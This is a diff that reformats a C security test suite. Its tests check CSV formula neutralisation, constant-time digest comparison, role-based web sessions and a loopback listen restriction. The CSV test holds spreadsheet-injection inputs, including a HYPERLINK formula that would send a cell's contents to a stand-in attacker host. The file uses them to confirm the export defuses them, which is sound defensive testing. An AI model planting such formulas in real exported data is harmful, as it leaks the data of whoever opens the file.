@@ -32,10 +32,10 @@ int __wrap_CRYPTO_memcmp(const void *a, const void *b, size_t n)
 static void test_csv_formula_cells_neutralised(void)
 {
     static const char *const cols[] = {"name", "n", NULL};
-    json_t *rows = json_pack(
-        "[{s:s,s:i},{s:s},{s:s},{s:s},{s:s},{s:s},{s:s},{s:s}]", "name",
-        "=HYPERLINK(\"http://evil.example/?leak=\"&B2,\"点我\")", "n", -5, "name", "+1", "name",
-        "-2+3", "name", "@SUM(A1)", "name", "\tx", "name", "\rx", "name", "李=明", "name", "a,b");
+    json_t *rows = json_pack("[{s:s,s:i},{s:s},{s:s},{s:s},{s:s},{s:s},{s:s},{s:s}]", "name",
+                             "=HYPERLINK(\"http://evil.example/?leak=\"&B2,\"点我\")", "n", -5,
+                             "name", "+1", "name", "-2+3", "name", "@SUM(A1)", "name", "\tx",
+                             "name", "\rx", "name", "李=明", "name", "a,b");
     struct http_resp r = {0};
     admin_reply_csv(&r, rows, cols);
     CHECK_INT(r.status, 200);
@@ -72,8 +72,7 @@ static void test_crypto_str_eq_compares_digests(void)
 static void test_web_sessions_per_role(void)
 {
     struct websess *ws = websess_new(3600000);
-    char sup[WEB_ID_HEX], desk[WEB_ID_HEX], first[WEB_ID_HEX], id[WEB_ID_HEX],
-        csrf[WEB_ID_HEX];
+    char sup[WEB_ID_HEX], desk[WEB_ID_HEX], first[WEB_ID_HEX], id[WEB_ID_HEX], csrf[WEB_ID_HEX];
     CHECK_INT(websess_open(ws, ADMIN_ROLE_SUPER, 1000, sup, csrf), 0);
     CHECK_INT(websess_open(ws, ADMIN_ROLE_DESK, 1001, desk, csrf), 0);
     CHECK_INT(websess_open(ws, ADMIN_ROLE_UNION, 1002, first, csrf), 0);
@@ -101,6 +100,6 @@ static void test_conf_listen_loopback(void)
     CHECK(!conf_listen_loopback("example.org:80"));
 }
 
-const struct t_case security_tests[] = {T(test_conf_listen_loopback),T(test_csv_formula_cells_neutralised),
-                                        T(test_crypto_str_eq_compares_digests),
-                                        T(test_web_sessions_per_role), T_END};
+const struct t_case security_tests[] = {
+    T(test_conf_listen_loopback), T(test_csv_formula_cells_neutralised),
+    T(test_crypto_str_eq_compares_digests), T(test_web_sessions_per_role), T_END};
